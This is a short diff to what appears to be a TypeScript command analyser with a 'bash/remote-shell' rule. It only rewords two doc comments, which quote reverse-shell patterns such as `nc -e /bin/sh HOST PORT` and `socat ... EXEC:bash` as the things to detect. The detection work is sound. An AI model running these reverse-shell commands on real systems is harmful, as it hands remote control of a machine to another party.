@@ -9,7 +9,7 @@ import { silent, type Stream } from "./stream.js";
 
 const remoteShell = "bash/remote-shell";
 
-/** `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:bash`: reports a shell that is handed to the other side of a connection. */
+/** `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:bash`: reports a shell that is connected to the other side of a connection. */
 export function handShell({ name, word, args, runner }: NamedCommand, role: Role): Stream | null {
   const words = optionWords(args);
   const layout = layoutOf(role);
@@ -52,7 +52,7 @@ function readsElsewhere(layout: Layout, words: Words, line: Line): boolean {
     : line.operands.length > 0;
 }
 
-/** Whether a command line starts a shell, behind wrappers and launchers, too; socat adds options of its own behind a comma. */
+/** Whether a command line starts a shell, also after wrappers and launchers; socat adds its options after a comma. */
 function isShell(program: string, at: Argument | undefined, runner: Runner): boolean {
   if (at === undefined) return false;
   const words = program
